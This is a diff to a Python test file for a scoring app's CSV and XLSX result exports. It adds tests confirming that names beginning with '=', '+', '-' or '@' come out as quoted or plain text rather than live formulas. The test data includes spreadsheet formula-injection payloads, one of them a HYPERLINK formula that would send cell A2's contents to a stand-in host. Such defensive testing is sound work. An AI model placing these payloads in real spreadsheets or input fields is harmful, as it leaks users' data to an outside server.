@@ -2,6 +2,7 @@
 
 import csv
 import io
+import zipfile
 from datetime import UTC, datetime
 
 import openpyxl
@@ -109,3 +110,49 @@ def test_a_sheet_a_confirmed_conflict_took_out_is_marked_in_the_score_matrix(app
         client_for(app, secretariat).get(f"/exports/round/{round_.id}/results.xlsx").data))
     counted = {row[1]: row[-1] for row in list(workbook.worksheets[2].iter_rows(values_only=True))[1:]}
     assert counted == {first.reference: "có", second.reference: "không: xung đột lợi ích"}
+
+
+HOSTILE = ('=HYPERLINK("http://x/?"&A2,"y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1")
+
+
+def hostile_round():
+    points = ((22, 24, 23, 21), (21, 20, 20, 20), (15, 18, 17, 19), (14, 14, 14, 14), (12, 12, 12, 12),
+              (10, 10, 10, 10))
+    round_, dossiers, secretariat, _, run = council_round(points, names=HOSTILE)
+    approve(round_, run, staff("approver"))
+    return round_, dossiers, secretariat
+
+
+def _no_formula_in(body: bytes) -> None:
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and all(b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+                              for name in sheets)
+
+
+def test_a_hostile_name_reaches_the_csv_as_quoted_text(app):
+    round_, dossiers, secretariat = hostile_round()
+    body = client_for(app, secretariat).get(f"/exports/round/{round_.id}/results.csv").data
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    names = {row[2]: row[3] for row in rows[1:]}
+    assert all(d.display_name[0] in "=+-@" for d in dossiers)  # the form strips a leading tab or CR
+    assert {names[d.reference] for d in dossiers} == {"'" + d.display_name for d in dossiers}
+    assert all(float(row[5]) > 0 for row in rows[1:])  # the scores stay plain numbers
+
+
+def test_a_hostile_name_reaches_the_xlsx_as_text_not_a_formula_and_through_a_job(app):
+    from tests.helpers import submit
+
+    round_, dossiers, secretariat = hostile_round()
+    client = client_for(app, secretariat)
+    direct = client.get(f"/exports/round/{round_.id}/results.xlsx").data
+    job = submit(client, f"/exports/round/{round_.id}/results.xlsx/job", form_url=f"/ranking/round/{round_.id}")
+    with client.get(job.location + "/result") as download:
+        from_job = download.data
+    for body in (direct, from_job):
+        _no_formula_in(body)
+        sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
+        cells = {row[2].value: row[3] for row in sheet.iter_rows(min_row=2)}
+        assert {cells[d.reference].value for d in dossiers} == {d.display_name for d in dossiers}
+        assert all(cells[d.reference].data_type == "s" for d in dossiers)
+        assert all(row[5].data_type == "n" and row[5].value > 0 for row in sheet.iter_rows(min_row=2))
